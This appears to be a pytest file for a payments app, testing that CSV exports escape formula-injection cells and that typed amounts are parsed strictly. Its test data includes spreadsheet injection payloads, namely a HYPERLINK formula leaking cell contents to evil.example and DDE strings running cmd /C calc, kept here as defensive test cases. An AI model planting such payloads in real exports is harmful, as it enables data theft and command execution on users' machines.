"""Bad text in exported reports and bad amounts typed into the console, each with its outcome.

CSV: cells that a spreadsheet would run as a formula are written as text (a leading
apostrophe); amounts keep their sign. Amounts: parsed with the console's locale, strictly;
ambiguous or absurd input is refused with a message, never guessed and never a 500.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from ledgerbridge.web.amounts import AmountError, parse_amount
from ledgerbridge.web.services.reports import (
    CurrencyTotals,
    PaymentLine,
    PaymentsReport,
    payments_csv,
)

CSV_ROWS = [
    (
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("CHK-2201", "CHK-2201"),
    ("O'Brien = partner", "O'Brien = partner"),
    ("", ""),
]


@pytest.mark.parametrize(("reference", "written"), CSV_ROWS)
def test_csv_cells_never_start_a_formula(reference: str, written: str) -> None:
    line = PaymentLine(
        id="1",
        date=dt.date(2026, 1, 2),
        invoices=[("7", reference)],
        customer=reference,
        processor="quickbooks",
        method="check",
        status="succeeded",
        reference=reference,
        currency="USD",
        amount=Decimal("10.00"),
        processing_fee=Decimal("0"),
        platform_fee=Decimal("0"),
        refunds=Decimal("15.00"),
    )
    report = PaymentsReport(
        dt.date(2026, 1, 1), dt.date(2026, 1, 31), [line], [CurrencyTotals("USD")], 1
    )
    rows = list(csv.reader(io.StringIO(payments_csv(report))))
    data = dict(zip(rows[0], rows[1], strict=True))
    assert data["Reference"] == written
    assert data["Customer"] == written
    assert data["Invoice numbers"] == written
    assert data["Net"] == "-5.00"  # amounts keep their sign: they are numbers, not text
    assert data["Amount"] == "10.00"


AMOUNT_ROWS = [
    ("25", Decimal("25")),
    ("25.50", Decimal("25.50")),
    ("1,234.50", Decimal("1234.50")),
    (" 12 ", Decimal("12")),
    ("5,00.00", "'5,00.00' is ambiguous: check the separators. Did you mean '500'?"),
    ("5,00", "'5,00' is ambiguous: check the separators. Did you mean '500'?"),
    ("1.234,50", "'1.234,50' is ambiguous: check the separators. Did you mean '1.2345'?"),
    ("1,2345.00", "'1,2345.00' is ambiguous: check the separators. Did you mean '12,345'?"),
    ("1e30", "'1e30' is not a number: use digits and '.' for decimals, for example 25.00."),
    ("1e309", "'1e309' is not a number: use digits and '.' for decimals, for example 25.00."),
    ("NaN", "'NaN' is not a number: use digits and '.' for decimals, for example 25.00."),
    (
        "Infinity",
        "'Infinity' is not a number: use digits and '.' for decimals, for example 25.00.",
    ),
    ("0x10", "'0x10' is not a number: use digits and '.' for decimals, for example 25.00."),
    ("$25", "'$25' is not a number: use digits and '.' for decimals, for example 25.00."),
    ("=1+1", "'=1+1' is not a number: use digits and '.' for decimals, for example 25.00."),
    ("１２３", "'１２３' is not a number: use digits and '.' for decimals, for example 25.00."),
    ("1 000", "'1 000' is not a number: use digits and '.' for decimals, for example 25.00."),
    ("12.345", "'12.345' has more than 2 decimals."),
    ("99999999999999", "'99999999999999' is larger than the largest amount allowed."),
    ("", "Enter an amount, for example 25.00."),
    ("   ", "Enter an amount, for example 25.00."),
]


@pytest.mark.parametrize(("text", "expected"), AMOUNT_ROWS)
def test_amounts_in_the_console_locale(text: str, expected: Decimal | str) -> None:
    if isinstance(expected, Decimal):
        assert parse_amount(text) == expected
        return
    with pytest.raises(AmountError) as caught:
        parse_amount(text)
    assert str(caught.value) == expected


def test_amounts_in_a_european_locale() -> None:
    assert parse_amount("1.234,50", locale="de_DE") == Decimal("1234.50")
    assert parse_amount("5,00", locale="de_DE") == Decimal("5.00")
    with pytest.raises(AmountError, match="ambiguous"):
        parse_amount("5.00,00", locale="de_DE")
